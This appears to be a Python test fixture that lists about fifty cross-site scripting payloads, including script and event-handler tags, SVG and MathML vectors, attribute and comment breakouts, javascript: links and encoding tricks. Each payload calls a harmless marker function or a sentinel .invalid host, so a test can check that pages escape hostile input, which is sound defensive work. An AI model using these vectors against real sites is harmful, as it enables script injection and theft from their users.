"""What would somebody write who wants a page to do more than to show it? Forty ways, and some."""

from __future__ import annotations

from typing import NamedTuple

SIGN = "wfkit-hit"
"""What is in every address and every call of a payload, and nowhere else."""
ELSEWHERE = f"//{SIGN}.invalid/@"


class Payload(NamedTuple):
    """A hostile text: `@` is where it came from. `shown` is what must be seen of it, as text."""

    text: str
    shown: str

    def at(self, place: str) -> str:
        """The text for one place where text is taken in."""
        return self.text.replace("@", place)

    def seen_at(self, place: str) -> str:
        """What a page shows of it."""
        return self.shown.replace("@", place)


def _payload(text: str) -> Payload:
    """A payload of printable characters is shown as it is."""
    return Payload(text, text)


_CALL = "__hit('@')"
_PLAIN = (
    # elements that run or load
    f"<script>{_CALL}</script>",
    f"<ScRiPt src={ELSEWHERE}></sCrIpT>",
    f"<img src={SIGN} onerror={_CALL}>",
    f"<img/src={SIGN}/onerror={_CALL}//",
    f"<image src={SIGN} onerror={_CALL}>",
    f"<video><source onerror={_CALL}>",
    f"<audio src={SIGN} onerror={_CALL}>",
    f"<body onload={_CALL}>",
    f"<iframe src=javascript:parent.{_CALL}>",
    "<iframe srcdoc='<script>parent.__hit(`@`)</script>'>",
    f"<object data=javascript:{_CALL}>",
    f"<embed src={ELSEWHERE}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<b style=animation:wf-pulse onanimationstart={_CALL}>",
    f"<a href=javascript:{_CALL} id=@>go</a>",
    f"<form action=javascript:{_CALL}><button>go",
    f"<meta http-equiv=refresh content=0;url={ELSEWHERE}>",
    f"<base href={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    # SVG and MathML
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x>",
    f"<svg><use href={ELSEWHERE}#x></svg>",
    f"<svg><foreignObject><img src={SIGN} onerror={_CALL}>",
    f"<svg><style><img src={SIGN} onerror={_CALL}></style>",
    f"<math><mtext><mglyph><style><img src={SIGN} onerror={_CALL}>",
    f"<math href=javascript:{_CALL} id=@>go</math>",
    # out of an attribute, an element, a comment, a template, a text of JSON
    f'" onmouseover="{_CALL}" x="',
    f"' autofocus onfocus='{_CALL}' x='",
    f'"><img src={SIGN} onerror="{_CALL}">',
    f"</title></desc><script>{_CALL}</script>",
    f"</style></textarea></pre><script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f'"}}]}}</script><img src={SIGN} onerror={_CALL}>',
    f"--><script>{_CALL}</script><!--",
    f"<!--<script>{_CALL}//",
    f"]]><script>{_CALL}</script><![CDATA[",
    f"</template><img src={SIGN} onerror={_CALL}>",
    f"{{{{constructor.constructor(`{_CALL}`)()}}}}",
    f"${{{_CALL}}} <%= {_CALL} %>",
    f"`+{_CALL}+`';{_CALL}//\\",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;img src={SIGN} onerror={_CALL}&#62;",
    # links, Markdown, style sheets
    f"javascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"[go](javascript:{_CALL}) ![x]({ELSEWHERE})",
    f"<style>@import '{ELSEWHERE}';</style>",
    f"x;}}*{{background:url({ELSEWHERE})}}",
)
_ODD = (
    Payload(f"\x1b]8;;javascript:{_CALL}\x07go @\x1b]8;;\x07", f";;javascript:{_CALL}"),
    Payload(f"\x1b[31m<img src={SIGN} onerror={_CALL}>", f"<img src={SIGN} onerror={_CALL}>"),
    Payload(f"\u202e<script>{_CALL}</script>", f"\\u202e<script>{_CALL}</script>"),
    Payload(f"<scr\x00ipt>{_CALL}</script>", f"ipt>{_CALL}</script>"),
    Payload(f"\ud800<img src={SIGN} onerror={_CALL}>", f"\\ud800<img src={SIGN} onerror={_CALL}>"),
)
PAYLOADS = (*map(_payload, _PLAIN), *_ODD)
